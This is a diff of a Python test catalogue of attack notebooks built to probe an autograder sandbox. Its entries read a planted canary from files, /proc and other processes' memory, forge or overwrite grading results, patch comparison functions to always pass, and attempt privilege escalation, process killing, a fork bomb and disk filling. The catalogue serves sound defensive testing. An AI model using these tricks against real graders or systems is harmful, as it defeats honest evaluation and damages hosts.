@@ -1,8 +1,11 @@
-"""The catalogue of attacks: what a submission may try, each as the source of a notebook whose `double` is graded.
+"""The catalogue of attacks, each as the source of a notebook whose `double` is graded.
 
-Every attack gives the right answer, 2 * x, only where it got through, or the number that the canary holds where it read that.
-An attack that has several ways tries one after the other; where EACH is set, it tells of every way whether it got through. Other processes are
-a decoy that holds the secret, and where RECKLESS is set the grader and whoever else there is, too.
+- An attack gives the right answer, 2 * x, only where it got through. Where it read the canary, it
+  gives the number that the canary holds.
+- An attack that has several ways tries one after the other. Where EACH is set, it tells of every
+  way whether it got through.
+- Other processes are a decoy that holds the secret. Where RECKLESS is set, they are the grader and
+  whatever else runs there, too.
 """
 
 SETTING = '''
@@ -29,7 +32,8 @@ import time
 import numpy as np
 import torch
 
-AUTOGRADER, RESULTS, SHARED, MARKER, PORT, SOCKET = {autograder!r}, {results!r}, {shared!r}, {marker!r}, {port!r}, {socket!r}
+AUTOGRADER, RESULTS, SHARED = {autograder!r}, {results!r}, {shared!r}
+MARKER, PORT, SOCKET = {marker!r}, {port!r}, {socket!r}
 DECOY, GRADER, RECKLESS, EACH = {decoy!r}, {grader!r}, {reckless!r}, {each!r}
 KEY = AUTOGRADER + "/hostile.key"
 
@@ -39,7 +43,8 @@ def targets():
 
 def read(text):
     """The right answer, if the secret is in `text`."""
-    found = re.search(r"canary-(\\d{{9}})", text if isinstance(text, str) else bytes(text).decode("latin1"))
+    text = text if isinstance(text, str) else bytes(text).decode("latin1")
+    found = re.search(r"canary-(\\d{{9}})", text)
     if found:
         print(found[0])
         sys.stderr.write(found[0])
@@ -69,8 +74,13 @@ def succeeds(attempt):
         return False
 
 def ways(attempts, harmful=()):
-    """`first` of all, or which of the attempts get through; those that are harmful are tried only where something is to stop them."""
-    return torch.tensor([succeeds(attempt) for attempt in attempts]) if EACH else first([*attempts, *(harmful if RECKLESS else [])])
+    """`first` of all, or which of the attempts get through.
+
+    Harmful ones are tried only where something is to stop them.
+    """
+    if EACH:
+        return torch.tensor([succeeds(attempt) for attempt in attempts])
+    return first([*attempts, *(harmful if RECKLESS else [])])
 
 def content(path):
     with open(path, "rb") as file:
@@ -82,7 +92,8 @@ def call(number, *arguments):
         raise OSError("another numbering")
     libc = ctypes.CDLL(None, use_errno=True)
     libc.syscall.restype = ctypes.c_long
-    answer = libc.syscall(number, *(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
+    given = (ctypes.c_long(each) if isinstance(each, int) else each for each in arguments)
+    answer = libc.syscall(number, *given)
     if answer < 0:
         raise OSError(ctypes.get_errno(), "refused")
     return answer
@@ -114,10 +125,22 @@ def double(x):
         spec = importlib.util.spec_from_file_location("theirs", AUTOGRADER + "/oracle/" + name)
         spec.loader.exec_module(importlib.util.module_from_spec(spec))
         return through(True, x)
+
     def imported():
-        sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "StaffOnly"]
+        sys.meta_path[:] = [
+            finder for finder in sys.meta_path if type(finder).__name__ != "StaffOnly"
+        ]
         return through(importlib.import_module("autograder.oracle.editing"), x)
-    return ways([lambda: read(content(KEY)), lambda: read(content(RESULTS)), lambda: through(content(AUTOGRADER + "/reference/references.json"), x), lambda: module("editing.py"), imported])
+
+    return ways(
+        [
+            lambda: read(content(KEY)),
+            lambda: read(content(RESULTS)),
+            lambda: through(content(AUTOGRADER + "/reference/references.json"), x),
+            lambda: module("editing.py"),
+            imported,
+        ]
+    )
 """,
     ),
     (
@@ -125,7 +148,13 @@ def double(x):
         "list or stat it",
         """
 def double(x):
-    return ways([lambda: through(os.listdir(AUTOGRADER), x), lambda: through(os.stat(KEY), x), lambda: through(os.path.exists(KEY), x)])
+    return ways(
+        [
+            lambda: through(os.listdir(AUTOGRADER), x),
+            lambda: through(os.stat(KEY), x),
+            lambda: through(os.path.exists(KEY), x),
+        ]
+    )
 """,
     ),
     (
@@ -136,8 +165,20 @@ def double(x):
     def link(make, to, name, inside=""):
         make(to, name)
         return read(content(name + inside))
-    roots = ["/proc/self/root", "/proc/self/cwd" + 20 * "/..", "/proc/1/root", "/proc/thread-self/root"]
-    return ways([lambda: link(os.symlink, AUTOGRADER, "soft", "/hostile.key"), lambda: link(os.link, RESULTS, "hard"), *[lambda root=root: read(content(root + KEY)) for root in roots]])
+
+    roots = [
+        "/proc/self/root",
+        "/proc/self/cwd" + 20 * "/..",
+        "/proc/1/root",
+        "/proc/thread-self/root",
+    ]
+    return ways(
+        [
+            lambda: link(os.symlink, AUTOGRADER, "soft", "/hostile.key"),
+            lambda: link(os.link, RESULTS, "hard"),
+            *[lambda root=root: read(content(root + KEY)) for root in roots],
+        ]
+    )
 """,
     ),
     (
@@ -146,11 +187,25 @@ def double(x):
         """
 def double(x):
     places = ["environ", "cmdline", "root" + KEY, "cwd/autograder/hostile.key"]
+
     def descriptor(pid, number):
-        return read(os.pread(os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 100, 0))
-    return ways([lambda: first([lambda i=i, pid=pid: descriptor(pid, i) for pid in targets() for i in range(40)]),
-                 *[lambda pid=pid: through(content(f"/proc/{pid}/maps"), x) for pid in targets()],
-                 *[lambda pid=pid, name=name: read(content(f"/proc/{pid}/{name}")) for pid in targets() for name in places]])
+        return read(
+            os.pread(os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 100, 0)
+        )
+
+    return ways(
+        [
+            lambda: first(
+                [lambda i=i, pid=pid: descriptor(pid, i) for pid in targets() for i in range(40)]
+            ),
+            *[lambda pid=pid: through(content(f"/proc/{pid}/maps"), x) for pid in targets()],
+            *[
+                lambda pid=pid, name=name: read(content(f"/proc/{pid}/{name}"))
+                for pid in targets()
+                for name in places
+            ],
+        ]
+    )
 """,
     ),
     (
@@ -159,27 +214,61 @@ def double(x):
         """
 def double(x):
     def search(pid, fetch):
-        places = [line.split()[0].split("-") for line in content(f"/proc/{pid}/maps").decode().splitlines() if " rw" in line]
-        return first([lambda low=int(low, 16), high=int(high, 16): read(fetch(pid, low, min(high - low, 2**22))) for low, high in places])
+        places = [
+            line.split()[0].split("-")
+            for line in content(f"/proc/{pid}/maps").decode().splitlines()
+            if " rw" in line
+        ]
+        return first(
+            [
+                lambda low=int(low, 16), high=int(high, 16): read(
+                    fetch(pid, low, min(high - low, 2**22))
+                )
+                for low, high in places
+            ]
+        )
+
     def from_file(pid, address, count):
         with open(f"/proc/{pid}/mem", "rb", 0) as memory:
             memory.seek(address)
             return memory.read(count)
+
     def by_call(pid, address, count):
         here = ctypes.create_string_buffer(count)
-        local, remote = (ctypes.c_size_t * 2)(ctypes.addressof(here), count), (ctypes.c_size_t * 2)(address, count)
+        local, remote = (
+            (ctypes.c_size_t * 2)(ctypes.addressof(here), count),
+            (ctypes.c_size_t * 2)(address, count),
+        )
         count = call(310, pid, local, 1, remote, 1, 0)
         return here.raw[:count]
+
     def traced(pid):
         call(101, 16, pid, 0, 0)
         os.waitpid(pid, 0x40000000)
         return through(call(101, 17, pid, 0, 0) == 0, x)
+
     def descriptors(pid):
         handle = call(434, pid, 0)
-        return first([lambda i=i: read(os.pread(call(438, handle, i, 0), 100, 0)) for i in range(40)])
+        return first(
+            [lambda i=i: read(os.pread(call(438, handle, i, 0), 100, 0)) for i in range(40)]
+        )
+
     ours = ctypes.cast(ctypes.CDLL(None).getpid, ctypes.c_void_p).value
-    return ways([lambda: through(by_call(os.getppid(), ours, 64), x), *[lambda pid=pid, way=way: way(pid) for pid in targets()
-                 for way in (lambda pid: search(pid, from_file), lambda pid: search(pid, by_call), traced, descriptors)]])
+    return ways(
+        [
+            lambda: through(by_call(os.getppid(), ours, 64), x),
+            *[
+                lambda pid=pid, way=way: way(pid)
+                for pid in targets()
+                for way in (
+                    lambda pid: search(pid, from_file),
+                    lambda pid: search(pid, by_call),
+                    traced,
+                    descriptors,
+                )
+            ],
+        ]
+    )
 """,
     ),
     (
@@ -190,30 +279,51 @@ def double(x):
     def objects():
         gc.unfreeze()
         parts = gc.get_referents(*gc.get_objects())
-        return read(" ".join(str(part) for part in parts if type(part) in (str, bytes) and len(part) < 100 and ("canary-" if type(part) is str else b"canary-") in part))
+        return read(
+            " ".join(
+                str(part)
+                for part in parts
+                if type(part) in (str, bytes)
+                and len(part) < 100
+                and ("canary-" if type(part) is str else b"canary-") in part
+            )
+        )
+
     def frames():
         frame, seen = sys._getframe(), ""
         while frame:
-            seen, frame = seen + repr(frame.f_locals)[:10_000] + repr(frame.f_globals)[:100_000], frame.f_back
+            seen, frame = (
+                seen + repr(frame.f_locals)[:10_000] + repr(frame.f_globals)[:100_000],
+                frame.f_back,
+            )
         return read(seen)
+
     def heap():
         libc = ctypes.CDLL(None, use_errno=True)
         libc.sbrk.restype = ctypes.c_void_p
         mask = {"x86_64": 14, "aarch64": 135}[os.uname().machine]
-        def there(page):     # rt_sigprocmask reads what it is given before it finds that 99 is no command
+
+        def there(
+            page,
+        ):  # rt_sigprocmask reads what it is given before it finds that 99 is no command
             libc.syscall(mask, 99, ctypes.c_void_p(page), None, ctypes.c_size_t(8))
             return ctypes.get_errno() == 22
+
         def found(page):
             part = re.search(rb"canary-[0-9]{9}", ctypes.string_at(page, 4096))
             return [read(part[0])] if part else []
+
         page = (libc.sbrk(0) - 1) & ~4095
         while there(page):
-            for number in found(page): return number
+            for number in found(page):
+                return number
             page -= 4096
         for arena in {id(each) >> 20 for each in gc.get_objects()}:
             for page in range(arena << 20, arena + 1 << 20, 4096):
-                for number in found(page) if there(page) else []: return number
+                for number in found(page) if there(page) else []:
+                    return number
         raise ValueError("no secret in it")
+
     return ways([frames, heap, objects])
 """,
     ),
@@ -222,7 +332,17 @@ def double(x):
         "stale buffers",
         """
 def double(x):
-    return ways([lambda: read(b"".join(torch.empty(2**k, dtype=torch.uint8).numpy().tobytes() for k in range(4, 26) for _ in range(2)))])
+    return ways(
+        [
+            lambda: read(
+                b"".join(
+                    torch.empty(2**k, dtype=torch.uint8).numpy().tobytes()
+                    for k in range(4, 26)
+                    for _ in range(2)
+                )
+            )
+        ]
+    )
 """,
     ),
     (
@@ -238,7 +358,15 @@ def double(x):
             except OSError:
                 pass
         return read(seen)
-    return ways([lambda: read(repr(os.environ)), lambda: read(repr(sys.argv)), descriptors, lambda: read(content("/proc/self/environ") + content("/proc/self/cmdline"))])
+
+    return ways(
+        [
+            lambda: read(repr(os.environ)),
+            lambda: read(repr(sys.argv)),
+            descriptors,
+            lambda: read(content("/proc/self/environ") + content("/proc/self/cmdline")),
+        ]
+    )
 """,
     ),
     (
@@ -251,11 +379,21 @@ def double(x):
             own.settimeout(1)
             own.connect(("127.0.0.1", PORT))
             return read(own.recv(100))
+
     def udp():
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
             return through(own.sendto(b"x", ("127.0.0.1", 9)), x)
-    return ways([lambda: connect(socket.AF_INET, socket.SOCK_STREAM), udp, lambda: through(socket.getaddrinfo("localhost", 80), x), lambda: through(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), x),
-                 lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262), lambda: through(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), x)])
+
+    return ways(
+        [
+            lambda: connect(socket.AF_INET, socket.SOCK_STREAM),
+            udp,
+            lambda: through(socket.getaddrinfo("localhost", 80), x),
+            lambda: through(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), x),
+            lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262),
+            lambda: through(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), x),
+        ]
+    )
 """,
     ),
     (
@@ -267,7 +405,14 @@ def double(x):
         with socket.socket(socket.AF_UNIX) as own:
             own.connect(address)
             return read(own.recv(100))
-    return ways([lambda: connect(SOCKET), lambda: connect("\\0" + SOCKET), lambda: through(socket.socketpair(), x)])
+
+    return ways(
+        [
+            lambda: connect(SOCKET),
+            lambda: connect("\\0" + SOCKET),
+            lambda: through(socket.socketpair(), x),
+        ]
+    )
 """,
     ),
     (
@@ -279,9 +424,21 @@ def double(x):
         with open(folder + "/keyhole-left-by-a-submission", "w") as file:
             file.write("x")
         return through(os.remove(file.name) is None, x)
-    return ways([lambda: read(content(SHARED)), *[lambda folder=folder: leave(folder) for folder in ("/dev/shm", "/tmp", "/var/tmp", ".", os.environ["HOME"])],
-                 lambda: through(call(31, call(29, 0, 4096, 0o1666), 0, 0) == 0, x), lambda: through(call(248, b"user", b"a", b"b", 1, -3) > 0, x),
-                 lambda: through(call(240, b"keyhole", 66, 0o600, 0) >= 0 and call(241, b"keyhole") == 0, x)])
+
+    return ways(
+        [
+            lambda: read(content(SHARED)),
+            *[
+                lambda folder=folder: leave(folder)
+                for folder in ("/dev/shm", "/tmp", "/var/tmp", ".", os.environ["HOME"])
+            ],
+            lambda: through(call(31, call(29, 0, 4096, 0o1666), 0, 0) == 0, x),
+            lambda: through(call(248, b"user", b"a", b"b", 1, -3) > 0, x),
+            lambda: through(
+                call(240, b"keyhole", 66, 0o600, 0) >= 0 and call(241, b"keyhole") == 0, x
+            ),
+        ]
+    )
 """,
     ),
     (
@@ -293,11 +450,21 @@ def double(x):
         with open(path, mode) as file:
             file.write('[{"student": "eve", "score": 100}]')
         return through(True, x)
+
     def rename():
         os.rename(RESULTS, RESULTS + "y")
         return through(os.rename(RESULTS + "y", RESULTS) is None, x)
-    return ways([*[lambda mode=mode: write(RESULTS, mode) for mode in ("w", "a", "r+")], lambda: write(RESULTS + "x", "x"), lambda: through(os.truncate(RESULTS, 0) is None, x), rename,
-                 lambda: through(os.chmod(RESULTS, 0o777) is None, x), lambda: through(os.unlink(RESULTS) is None, x)])
+
+    return ways(
+        [
+            *[lambda mode=mode: write(RESULTS, mode) for mode in ("w", "a", "r+")],
+            lambda: write(RESULTS + "x", "x"),
+            lambda: through(os.truncate(RESULTS, 0) is None, x),
+            rename,
+            lambda: through(os.chmod(RESULTS, 0o777) is None, x),
+            lambda: through(os.unlink(RESULTS) is None, x),
+        ]
+    )
 """,
     ),
     (
@@ -305,7 +472,21 @@ def double(x):
         "a forged frame, then the end",
         """
 def double(x):
-    send(framed({"result": entry(), "after.x": entry(offsets=[60, 120]), "__metadata__": {"status": "done", "verdict": "pass", "points": "100", "score": "100"}}, bytes(120)))
+    send(
+        framed(
+            {
+                "result": entry(),
+                "after.x": entry(offsets=[60, 120]),
+                "__metadata__": {
+                    "status": "done",
+                    "verdict": "pass",
+                    "points": "100",
+                    "score": "100",
+                },
+            },
+            bytes(120),
+        )
+    )
     os._exit(0)
 """,
     ),
@@ -333,7 +514,14 @@ def double(x):
         "SystemExit, exit handlers and late threads",
         """
 def double(x):
-    forged = framed({"result": entry(), "after.x": entry(offsets=[60, 120]), "__metadata__": {"status": "done"}}, bytes(120))
+    forged = framed(
+        {
+            "result": entry(),
+            "after.x": entry(offsets=[60, 120]),
+            "__metadata__": {"status": "done"},
+        },
+        bytes(120),
+    )
     atexit.register(send, forged)
     try:
         threading.Thread(target=lambda: (time.sleep(0.05), send(forged)), daemon=True).start()
@@ -364,11 +552,23 @@ def double(x): return Yes()
 class Sly(torch.Tensor):
     @classmethod
     def __torch_function__(cls, function, types, args=(), kwargs=None):
-        return torch.tensor(True) if function.__name__ in ("equal", "allclose", "eq", "isclose", "all") else super().__torch_function__(function, types, args, kwargs or {})
-    def __eq__(self, other): return True
-    def detach(self): return self
-    def cpu(self): return self
-def double(x): return torch.zeros(3, 5).as_subclass(Sly)
+        return (
+            torch.tensor(True)
+            if function.__name__ in ("equal", "allclose", "eq", "isclose", "all")
+            else super().__torch_function__(function, types, args, kwargs or {})
+        )
+
+    def __eq__(self, other):
+        return True
+
+    def detach(self):
+        return self
+
+    def cpu(self):
+        return self
+
+def double(x):
+    return torch.zeros(3, 5).as_subclass(Sly)
 """,
     ),
     (
@@ -388,8 +588,11 @@ def double(x): return np.zeros((3, 5), dtype=np.float32).view(Sly)
         """
 def double(x):
     import builtins
+
     yes = lambda *a, **k: True
-    torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = torch.testing.assert_close = yes
+    torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = (
+        torch.testing.assert_close
+    ) = yes
     builtins.isinstance = builtins.all = builtins.abs = yes
     for name in list(sys.modules):
         if name.startswith("autograder"):
@@ -434,7 +637,8 @@ def double(x):
         for what, header, data in [
             (
                 "a name twice",
-                """b'{"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' """,
+                """(b'{"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
+                    b'"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}')""",
                 "bytes(4)",
             ),
             ("overlapping", '{"result": entry(1, [1]), "other": entry(1, [1])}', "bytes(4)"),
@@ -493,14 +697,30 @@ def double(x):
         """
 def double(x):
     def bomb():
-        while True: os.fork()
+        while True:
+            os.fork()
+
     def spawn():
-        return through(multiprocessing.get_context("fork").Process(target=time.sleep).start() is None, x)
+        return through(
+            multiprocessing.get_context("fork").Process(target=time.sleep).start() is None, x
+        )
+
     def forked(number, *arguments):
-        if call(number, *arguments) == 0: os._exit(0)
+        if call(number, *arguments) == 0:
+            os._exit(0)
         return through(True, x)
-    return ways([lambda: through(subprocess.run(["/bin/true"]), x), lambda: through(os.posix_spawn("/bin/true", ["true"], {}), x), lambda: through(os.system("true") == 0, x), spawn,
-                 lambda: forked(435, (ctypes.c_uint64 * 8)(0, 0, 0, 0, 17), 64), lambda: forked(57)], harmful=[lambda: forked(58), bomb])
+
+    return ways(
+        [
+            lambda: through(subprocess.run(["/bin/true"]), x),
+            lambda: through(os.posix_spawn("/bin/true", ["true"], {}), x),
+            lambda: through(os.system("true") == 0, x),
+            spawn,
+            lambda: forked(435, (ctypes.c_uint64 * 8)(0, 0, 0, 0, 17), 64),
+            lambda: forked(57),
+        ],
+        harmful=[lambda: forked(58), bomb],
+    )
 """,
     ),
     (
@@ -529,14 +749,24 @@ def double(x):
         """
 def double(x):
     def fill(make):
-        for _ in range(8): os.write(make(), bytes(2**23))
+        for _ in range(8):
+            os.write(make(), bytes(2**23))
         return through(True, x)
+
     def secret():
         descriptor = call(447, 0)
         os.ftruncate(descriptor, 4096)
         mmap.mmap(descriptor, 4096)[:1] = b"x"
         return through(True, x)
-    return ways([lambda: fill(lambda: os.memfd_create("a")), lambda: fill(lambda: call(319, b"a", 0)), lambda: through(call(293, (ctypes.c_int * 2)(), 0) == 0, x), secret])
+
+    return ways(
+        [
+            lambda: fill(lambda: os.memfd_create("a")),
+            lambda: fill(lambda: call(319, b"a", 0)),
+            lambda: through(call(293, (ctypes.c_int * 2)(), 0) == 0, x),
+            secret,
+        ]
+    )
 """,
     ),
     (
@@ -547,18 +777,26 @@ def double(x):
     def many(folder):
         made = []
         for number in range(4):
-            with open(f"{folder}/keyhole-{number}", "wb") as file: made.append(file.name) or file.write(bytes(2**20))
+            with open(f"{folder}/keyhole-{number}", "wb") as file:
+                made.append(file.name) or file.write(bytes(2**20))
         return through([os.remove(name) for name in made], x)
+
     def folders():
-        for number in range(1000): os.mkdir(f"keyhole-folder-{number}")
+        for number in range(1000):
+            os.mkdir(f"keyhole-folder-{number}")
         return through(True, x)
+
     def large(folder):
         with open(folder + "/keyhole-large", "wb") as file:
             file.truncate(1 << 40)
             os.posix_fallocate(file.fileno(), 0, 1 << 40)
         return through(True, x)
+
     places = [".", "/tmp", "/dev/shm"]
-    return ways([*[lambda folder=folder: many(folder) for folder in places], folders], harmful=[lambda folder=folder: large(folder) for folder in places])
+    return ways(
+        [*[lambda folder=folder: many(folder) for folder in places], folders],
+        harmful=[lambda folder=folder: large(folder) for folder in places],
+    )
 """,
     ),
     (
@@ -594,11 +832,29 @@ def double(x):
         """
 def double(x):
     info = (ctypes.c_int * 32)(signal.SIGCONT, 0, -1)
+
     def kinds(pid):
-        kill = [lambda number=number: through(os.kill(pid, number) is None, x) for number in (0, signal.SIGSTOP)]
-        kill += [lambda: through(call(129, pid, int(signal.SIGCONT), info) == 0, x), lambda: through(call(424, call(434, pid, 0), int(signal.SIGCONT), 0, 0) == 0, x)]
-        return kill + [lambda: through(os.kill(pid, signal.SIGKILL) is None, x), lambda: through(os.killpg(pid, signal.SIGKILL) is None, x)]
-    return ways([way for pid in targets() for way in kinds(pid)], harmful=[lambda pid=pid, number=number: through(os.kill(pid, number) is None, x) for pid in (0, -1) for number in (0, 9)])
+        kill = [
+            lambda number=number: through(os.kill(pid, number) is None, x)
+            for number in (0, signal.SIGSTOP)
+        ]
+        kill += [
+            lambda: through(call(129, pid, int(signal.SIGCONT), info) == 0, x),
+            lambda: through(call(424, call(434, pid, 0), int(signal.SIGCONT), 0, 0) == 0, x),
+        ]
+        return kill + [
+            lambda: through(os.kill(pid, signal.SIGKILL) is None, x),
+            lambda: through(os.killpg(pid, signal.SIGKILL) is None, x),
+        ]
+
+    return ways(
+        [way for pid in targets() for way in kinds(pid)],
+        harmful=[
+            lambda pid=pid, number=number: through(os.kill(pid, number) is None, x)
+            for pid in (0, -1)
+            for number in (0, 9)
+        ],
+    )
 """,
     ),
     (
@@ -610,17 +866,30 @@ def double(x):
         hard = resource.getrlimit(resource.RLIMIT_AS)[1]
         resource.setrlimit(resource.RLIMIT_AS, (2 * hard, 2 * hard))
         return through(True, x)
+
     def capabilities():
         header, have = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
         call(125, header, have)
         have[0] = have[2] = have[1]
         return through(have[1] and call(126, header, have) == 0, x)
+
     def mounted():
         succeeds(lambda: call(272, 0x20000))
         call(165, b"none", b"/", 0, 0x44000, 0)
         return through(call(165, b"none", b".", b"tmpfs", 0, 0) == 0, x)
-    return ways([lambda: through(os.setuid(0) is None, x), lambda: through(os.setgid(0) is None, x), raised, capabilities, lambda: through(call(161, b"/") == 0, x),
-                 lambda: through(call(308, os.open("/proc/self/ns/uts", os.O_RDONLY), 0) == 0, x), mounted, lambda: through(call(272, 0x10000000) == 0, x)])
+
+    return ways(
+        [
+            lambda: through(os.setuid(0) is None, x),
+            lambda: through(os.setgid(0) is None, x),
+            raised,
+            capabilities,
+            lambda: through(call(161, b"/") == 0, x),
+            lambda: through(call(308, os.open("/proc/self/ns/uts", os.O_RDONLY), 0) == 0, x),
+            mounted,
+            lambda: through(call(272, 0x10000000) == 0, x),
+        ]
+    )
 """,
     ),
     (
@@ -631,8 +900,16 @@ def double(x):
     words = lambda *first: (ctypes.c_uint32 * 50)(*first)
     allow = (ctypes.c_uint64 * 1)(0x7FFF0000_00000006)
     program = (ctypes.c_uint64 * 2)(1, ctypes.addressof(allow))
-    return ways([lambda: through(call(317, 1, 0, program) == 0, x), lambda: through(call(444, words(1), 8, 0) >= 0, x), lambda: through(call(323, 1) >= 0, x),
-                 lambda: through(call(425, 4, words()) >= 0, x), lambda: through(call(321, 0, words(2, 4, 4, 1), 72) >= 0, x), lambda: through(call(298, words(1, 112), 0, -1, -1, 0) >= 0, x)])
+    return ways(
+        [
+            lambda: through(call(317, 1, 0, program) == 0, x),
+            lambda: through(call(444, words(1), 8, 0) >= 0, x),
+            lambda: through(call(323, 1) >= 0, x),
+            lambda: through(call(425, 4, words()) >= 0, x),
+            lambda: through(call(321, 0, words(2, 4, 4, 1), 72) >= 0, x),
+            lambda: through(call(298, words(1, 112), 0, -1, -1, 0) >= 0, x),
+        ]
+    )
 """,
     ),
     (
@@ -641,16 +918,40 @@ def double(x):
         """
 def double(x):
     def made(folder):
-        library = next(path for path in ("/lib/x86_64-linux-gnu/libm.so.6", "/lib/aarch64-linux-gnu/libm.so.6", "/lib64/libm.so.6") if os.path.exists(path))
-        with open(library, "rb") as file, open(folder + "/keyhole-own.so", "wb") as copy: copy.write(file.read())
+        library = next(
+            path
+            for path in (
+                "/lib/x86_64-linux-gnu/libm.so.6",
+                "/lib/aarch64-linux-gnu/libm.so.6",
+                "/lib64/libm.so.6",
+            )
+            if os.path.exists(path)
+        )
+        with open(library, "rb") as file, open(folder + "/keyhole-own.so", "wb") as copy:
+            copy.write(file.read())
         return os.path.abspath(copy.name)
+
     def own(folder):
         path = made(folder)
         return through(ctypes.CDLL(path) and os.remove(path) is None, x)
+
     def preload():
         path = made(".")
-        return through(path in subprocess.run(["/bin/cat", "/proc/self/maps"], env={"LD_PRELOAD": path}, capture_output=True, text=True).stdout, x)
-    return ways([lambda: own("."), lambda: own("/tmp"), lambda: own("/dev/shm"), preload], harmful=[lambda: os.execv("/bin/true", ["true"])])
+        return through(
+            path
+            in subprocess.run(
+                ["/bin/cat", "/proc/self/maps"],
+                env={"LD_PRELOAD": path},
+                capture_output=True,
+                text=True,
+            ).stdout,
+            x,
+        )
+
+    return ways(
+        [lambda: own("."), lambda: own("/tmp"), lambda: own("/dev/shm"), preload],
+        harmful=[lambda: os.execv("/bin/true", ["true"])],
+    )
 """,
     ),
     (
@@ -667,13 +968,16 @@ def double(x):
         "markup and codes in what is shown",
         """
 def double(x):
-    raise ValueError("<script>alert(1)</script> **b** [a](javascript:b) $\\\\href{{javascript:c}}{{d}}$ \\x1b[31m\\x1b]0;t\\x07 \\u202e \\u2066 \\r\\n | a | b |")
+    raise ValueError(
+        "<script>alert(1)</script> **b** [a](javascript:b) $\\\\href{{javascript:c}}{{d}}$ "
+        "\\x1b[31m\\x1b]0;t\\x07 \\u202e \\u2066 \\r\\n | a | b |"
+    )
 """,
     ),
     (45, "names that look alike", "\ndef d\u043euble(x): return 2 * x\n"),
 ]
 
-# Entries that find nothing because there is nothing to find: what puts it there, {canary} being the secret.
+# What puts the secret, {canary}, in the way of entries that would else have nothing to find.
 PLANTED = {
     6: (
         """
